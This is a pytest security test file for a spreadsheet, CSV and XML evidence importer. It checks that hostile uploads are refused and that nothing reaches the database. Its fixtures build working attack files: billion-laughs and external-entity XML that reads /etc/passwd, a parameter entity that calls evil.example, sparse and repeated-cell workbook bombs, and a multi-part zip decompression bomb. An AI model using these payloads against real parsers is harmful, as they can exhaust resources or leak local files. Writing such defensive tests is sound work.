"""Hostile import files are refused with a specific message, and nothing is written.

(The ordinary bad files, such as a plain zip bomb, a DTD in a census, encrypted or damaged
workbooks, are in tests/evidence/test_load.py.)
"""

from __future__ import annotations

import dataclasses
import os
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from tortoise import Tortoise

from inspection.evidence.load import import_file
from inspection.evidence.staged import EvidenceFileError
from inspection.models import Event
from tests.evidence.helpers import make_inspection
from tests.security import hostile_workbooks

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 64
AGENCY_HEADER = "record_id,person_id,event_date,event_type,details\n"


def _billion_laughs(path: Path) -> Path:
    entities = ['<!ENTITY l0 "lol">'] + [
        f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    ]
    path.write_text(
        f'<?xml version="1.0"?><!DOCTYPE Message [{"".join(entities)}]>'
        "<Message><Children><Child><ChildIdentifiers><LAchildID>&l9;</LAchildID>"
        "</ChildIdentifiers></Child></Children></Message>"
    )
    return path


def _external_entity(path: Path) -> Path:
    path.write_text(
        '<?xml version="1.0"?><!DOCTYPE Message [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        "<Message><Children><Child><ChildIdentifiers><LAchildID>&x;</LAchildID>"
        "</ChildIdentifiers></Child></Children></Message>"
    )
    return path


def _parameter_entity(path: Path) -> Path:
    path.write_text(
        '<?xml version="1.0"?><!DOCTYPE Message [<!ENTITY % p SYSTEM "http://evil.example/x">'
        "%p;]><Message/>"
    )
    return path


def _sparse_workbook(path: Path, header: list[str], title: str = "List_1") -> Path:
    """A few bytes on disk; read as a grid it would be 17 billion cells."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = title
    sheet.append(header)
    sheet["XFD1048576"] = "x"
    book.save(path)
    return path


def _many_entry_bomb(path: Path) -> Path:
    """Each part compresses only 100 times (under the per-part ratio), but they add up."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        block = (os.urandom(1000) + b"\0" * 99_000) * 10
        for n in range(40):
            archive.writestr(f"xl/worksheets/sheet{n}.xml", block)
    return path


def _huge_cell_csv(path: Path) -> Path:
    path.write_text(AGENCY_HEADER + "R1,P1,01/10/2026,missing_episode," + "x" * 200_000 + "\n")
    return path


def _bytes(data: bytes):
    def build(path: Path) -> Path:
        path.write_bytes(data)
        return path

    return build


def _hostile_workbook(case: str):
    sheet, part, target = hostile_workbooks.WORKBOOKS[case]

    def build(path: Path) -> Path:
        return hostile_workbooks.workbook(path, sheet, part or "xl/worksheets/sheet1.xml", target)

    return build


# Each of these a few kilobytes on disk; read as a grid, a billion cells or more. Before the
# sheets named by the workbook's relationships were measured as the reader places cells, the
# first four aborted the process that read them.
SPANNING = "has a sheet ('List_1') spanning 1,048,576 rows and"
WORKBOOK_CASES = {
    f"workbook_{case}": ("annex-a", "a.xlsx", _hostile_workbook(case), SPANNING)
    for case in hostile_workbooks.WORKBOOKS
}

CASES = {
    **WORKBOOK_CASES,
    "workbook_sparse_19_million_cells": (
        "annex-a",
        "a.xlsx",
        lambda p: hostile_workbooks.workbook(p, hostile_workbooks.SPARSE),
        "spanning 1,000,000 rows and 19 columns (19,000,000 cells), but only 3 of its cells "
        "hold anything",
    ),
    "agency_workbook_sparse_19_million_cells": (
        "agency",
        "p.xlsx",
        lambda p: hostile_workbooks.workbook(p, hostile_workbooks.SPARSE),
        "but only 3 of its cells hold anything",
    ),
    "opendocument_repeated_across_the_grid": (
        "annex-a",
        "a.ods",
        lambda p: hostile_workbooks.opendocument(p, 1_048_575, 16_384),
        "has a sheet ('List_1') spanning 1,048,576 rows and 16,384 columns",
    ),
    "billion_laughs": ("cin-census", "c.xml", _billion_laughs, "declares a DTD or entities"),
    "external_entity": ("cin-census", "c.xml", _external_entity, "declares a DTD or entities"),
    "parameter_entity": ("cin-census", "c.xml", _parameter_entity, "declares a DTD or entities"),
    "sparse_annex_a": (
        "annex-a",
        "a.xlsx",
        lambda p: _sparse_workbook(p, ["Child Unique ID", "Gender"]),
        "spanning 1,048,576 rows and 16,384 columns",
    ),
    "sparse_agency_xlsx": (
        "agency",
        "p.xlsx",
        lambda p: _sparse_workbook(p, ["record_id", "person_id", "event_date", "event_type"]),
        "spanning 1,048,576 rows and 16,384 columns",
    ),
    "many_part_bomb": ("annex-a", "a.xlsx", _many_entry_bomb, "looks like a decompression bomb"),
    "huge_csv_cell": ("agency", "p.csv", _huge_cell_csv, "cannot be read as a CSV file"),
    "png_as_xlsx": ("annex-a", "a.xlsx", _bytes(PNG), "is not a spreadsheet"),
    "png_as_csv": ("agency", "p.csv", _bytes(PNG), "is neither a CSV file nor a spreadsheet"),
    "png_as_census": ("cin-census", "c.xml", _bytes(PNG), "is not well-formed XML"),
    "census_as_annex_a": (
        "annex-a",
        "a.xlsx",
        _bytes(b'<?xml version="1.0"?><Message/>'),
        "is not a spreadsheet",
    ),
}


async def _every_table() -> dict[str, int]:
    counts = {}
    for model in Tortoise.apps["models"].values():
        counts[model._meta.db_table] = await model.all().count()
    return counts


@pytest.mark.parametrize("case", sorted(CASES))
async def test_hostile_file_is_refused_and_nothing_is_written(db, tmp_path, case):
    kind, name, build, message = CASES[case]
    inspection = await make_inspection()
    path = build(tmp_path / name)
    before = await _every_table()
    # The many-part bomb is judged against a 1 MB upload limit (8 MB unpacked at most).
    settings = dataclasses.replace(db, max_upload_bytes=1 << 20) if "bomb" in case else db
    with pytest.raises(EvidenceFileError, match=re.escape(message)):
        await import_file(
            inspection.id, path, kind, "police" if kind == "agency" else None, settings
        )
    assert await _every_table() == before
    assert not (db.uploads_dir / str(inspection.id)).exists()


async def test_a_workbook_named_csv_is_read_by_its_content(db, tmp_path):
    book = openpyxl.Workbook()
    book.active.append(["record_id", "person_id", "event_date", "event_type"])
    book.active.append(["R1", "P1", "01/10/2026", "missing_episode"])
    book.save(tmp_path / "police.csv")
    inspection = await make_inspection()
    summary = await import_file(inspection.id, tmp_path / "police.csv", "agency", "police", db)
    assert summary.events == 1
    assert [e.kind for e in await Event.filter(inspection_id=inspection.id)] == ["missing_episode"]


async def test_an_external_entity_in_a_workbook_is_never_resolved(db, tmp_path):
    """xlsx parts are XML too: an entity naming a local file must not pull it in."""
    good = tmp_path / "good.xlsx"
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "List_1"
    sheet.append(["List 1: Contacts"])
    sheet.append(["Child Unique ID", "Gender", "Date of Contact", "Contact Source"])
    sheet.append(["C1", "a) Male", "05/10/2026", "PLACEHOLDER"])
    book.save(good)
    hostile = tmp_path / "a.xlsx"
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(hostile, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/sharedStrings.xml":
                text = data.decode()
                text = text.replace(
                    "?>", '?><!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]>', 1
                ).replace("PLACEHOLDER", "&x;")
                data = text.encode()
            out.writestr(info, data)
    inspection = await make_inspection()
    before = await _every_table()
    try:
        await import_file(inspection.id, hostile, "annex-a", None, db)
    except EvidenceFileError:
        assert await _every_table() == before
    passwd = "root:x:0:0"  # the first line of /etc/passwd
    for table, count in (await _every_table()).items():
        if count:
            conn = Tortoise.get_connection("default")
            _, rows = await conn.execute_query(f'SELECT * FROM "{table}"')  # noqa: S608
            assert passwd not in repr([dict(r) for r in rows]), table
